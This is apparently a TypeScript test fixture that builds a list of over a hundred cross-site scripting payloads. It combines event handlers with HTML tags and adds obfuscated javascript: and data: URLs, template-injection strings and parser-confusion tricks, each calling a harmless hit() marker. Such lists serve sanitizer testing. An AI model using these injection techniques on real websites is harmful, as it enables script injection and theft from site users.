// More than a hundred ways in which text has run as a program somewhere. Each would call `hit()` or open a dialog.
const CALL = 'hit()';

const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
];
const ELEMENTS = [
  (handler: string) => `<img src=x ${handler}=${CALL}>`,
  (handler: string) => `<svg ${handler}=${CALL}>`,
  (handler: string) => `<details open ${handler}="${CALL}">`,
  (handler: string) => `<input autofocus ${handler}='${CALL}'>`,
  (handler: string) => `"><video src=x ${handler}=${CALL}>`,
  (handler: string) => `'><body ${handler}=${CALL}>`,
  (handler: string) => `</textarea></title></style><iframe ${handler}=${CALL}>`,
];

const ADDRESSES = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  ' javascript:hit()',
  'java\tscript:hit()',
  'java\nscript:hit()',
  '&#106;avascript:hit()',
  '&#x6a;avascript&colon;hit()',
  'javascript&#58;hit()',
  '\u0001javascript:hit()',
  'data:text/html,<script>parent.hit()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=',
  'vbscript:hit()',
];
const LINKS = [
  (url: string) => `<a href="${url}">open</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<form action="${url}"><button>go</button></form>`,
  (url: string) => `<meta http-equiv="refresh" content="0;url=${url}">`,
];

const OTHERS = [
  '<script>hit()</script>',
  '<ScRiPt>hit()</sCrIpT>',
  '<script src=data:text/javascript,hit()></script>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hit()>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<template><script>hit()</script></template>',
  '<object data="javascript:hit()"></object>',
  '<embed src="javascript:hit()">',
  '<base href="javascript:/a/-hit()/">',
  '<link rel=stylesheet href="javascript:hit()">',
  '<style>@import "javascript:hit()"</style>',
  '<div style="background:url(javascript:hit())">',
  '<xmp></xmp><img src=x onerror=hit()>',
  '--><img src=x onerror=hit()>',
  ']]><img src=x onerror=hit()>',
  '{{constructor.constructor("hit()")()}}',
  '${hit()}',
  '`;hit();//',
  '";hit();//',
  "';hit();//",
  '</script><script>hit()</script>',
  '<img src="x` `<script>hit()</script>"` `>',
  '<a href="x" onclick=hit()>x</a>',
  '<isindex type=image src=1 onerror=hit()>',
  '<frameset onload=hit()>',
  '<marquee onstart=hit()>',
  '\u003cimg src=x onerror=hit()\u003e',
  '&lt;img src=x onerror=hit()&gt;',
];

export const XSS_PAYLOADS: readonly string[] = [
  ...HANDLERS.flatMap((handler) => ELEMENTS.map((element) => element(handler))),
  ...ADDRESSES.flatMap((url) => LINKS.map((link) => link(url))),
  ...OTHERS,
];
